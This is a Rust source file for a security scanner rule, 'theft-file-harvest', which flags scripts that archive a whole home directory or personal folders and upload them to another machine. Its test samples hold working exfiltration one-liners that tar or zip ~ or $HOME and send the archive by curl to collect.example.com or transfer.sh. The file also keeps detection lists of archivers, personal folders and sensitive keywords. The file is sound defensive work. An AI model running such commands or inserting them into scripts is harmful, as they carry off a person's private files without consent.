//! `theft-file-harvest`: a person's folders reach another machine as a whole.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::operation::Origins;
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-file-harvest",
    title: "Collects the files of a whole home or disk and sends them",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "Whoever takes every document takes what the person never thought of.",
    fix: "Send only the file that the task is about.",
    references: &["CWE-200", "ATT&CK T1005", "ATT&CK T1560"],
    hits: &[
        Sample::File(
            "a.sh",
            "tar czf - ~ | curl -T - https://collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "tar czf /tmp/d.tgz ~/Documents\ncurl -F f=@/tmp/d.tgz https://collect.example.com\n",
        ),
        Sample::File(
            "a.sh",
            "zip -r /tmp/h.zip $HOME\ncurl --upload-file /tmp/h.zip https://transfer.sh/h.zip\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.sh",
            "tar czf /tmp/site.tgz build\ncurl -T /tmp/site.tgz https://api.example.com\n",
        ),
        Sample::File("a.sh", "ls ~\ncurl https://api.example.com\n"),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nhome = os.path.expanduser('~')\nrequests.post('https://api.example.com', data=open(home + '/demo/report.md').read())\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let sendings = sending::all(unit);
    if sendings.is_empty() {
        return;
    }
    let gathers = command::all(unit).any(|command| {
        command.is(&[
            "tar",
            "zip",
            "7z",
            "7za",
            "rar",
            "find",
            "compress-archive",
            "ditto",
            "rsync",
            "cpio",
        ]) && command
            .words()
            .any(|word| is_broad(word.trim_matches(['"', '\''])))
    }) || command::reads(unit).any(|(_, path)| is_broad(path));
    // A backup that only its owner can open, to a place that the owner names.
    let sealed = command::all(unit).any(|command| {
        command.is(&["gpg", "gpg2", "age"])
            && ["--encrypt", "-e", "--recipient", "-r", "--symmetric", "-c"]
                .iter()
                .any(|option| command.has(option))
    });
    let papers = is_after_papers(&unit.text);
    let dumped = command::all(unit).any(|command| {
        command.is(&["pg_dump", "pg_dumpall", "mysqldump", "mongodump", "sqlite3"])
            && (!command.is(&["sqlite3"]) || command.line.contains(".dump"))
    });
    for sending in &sendings {
        let piped = matches!(sending.callee, "curl" | "wget" | "nc" | "ncat");
        if dumped && piped && sending.host.is_some() && !sending.to_vendor() && !sealed {
            reporter
                .raise_flow(sending.span, &sending.way)
                .message("Sends what it dumps from a data base to another machine");
            continue;
        }
        if sealed && sending.host.is_none() && !sending.to_stranger() {
            continue;
        }
        if sending.origins.has(Origins::SENSITIVE)
            || !sending.origins.has(Origins::FILE) && !is_copy(sending)
        {
            continue;
        }
        if sending.files().any(is_broad) || gathers || papers && sending.host.is_some() {
            let raised = reporter.raise_flow(sending.span, &sending.way);
            if sending.to_stranger() {
                raised.severity(Severity::Blocker);
            }
        }
    }
}

/// Whether code looks for the papers of a person in their folders.
fn is_after_papers(text: &str) -> bool {
    const MOST: usize = 32;
    let folder = ["Documents", "Downloads", "Desktop"]
        .iter()
        .any(|folder| text.contains(folder));
    folder
        && [
            "passport", "tax", "salary", "bank", "password", "seed", "identity",
        ]
        .iter()
        .filter(|paper| {
            text.match_indices(**paper).take(MOST).any(|(at, found)| {
                let sign =
                    |letter: Option<char>| letter.is_some_and(|letter| "*{},'\"".contains(letter));
                sign(text[..at].chars().next_back())
                    && sign(text[at + found.len()..].chars().next())
            })
        })
        .count()
            > 1
}

/// Programs that send whatever they name.
fn is_copy(sending: &sending::Sending<'_>) -> bool {
    matches!(sending.callee, "rsync" | "scp" | "rclone" | "nc" | "ncat")
}

/// Whether everything of a person, or of a disk, lies below `path`.
fn is_broad(path: &str) -> bool {
    const WHOLE: &[&str] = &[
        "~",
        "$HOME",
        "${HOME}",
        "",
        "/home",
        "/Users",
        "/root",
        "C:",
        "%USERPROFILE%",
        "$env:USERPROFILE",
    ];
    const FOLDERS: &[&str] = &["Documents", "Desktop", "Downloads", "Pictures"];
    if path.is_empty() || path.len() > 200 || !path.starts_with(['~', '$', '/', 'C', '%']) {
        return false;
    }
    let path = path.trim_end_matches(['/', '\\', '*', '.']);
    if WHOLE.contains(&path) {
        return true;
    }
    let Some((front, last)) = path.rsplit_once(['/', '\\']) else {
        return false;
    };
    if FOLDERS.contains(&last) {
        return WHOLE.contains(&front)
            || matches!(front.rsplit_once('/'), Some(("/home" | "/Users", _)));
    }
    matches!(front, "/home" | "/Users") && !last.is_empty()
}
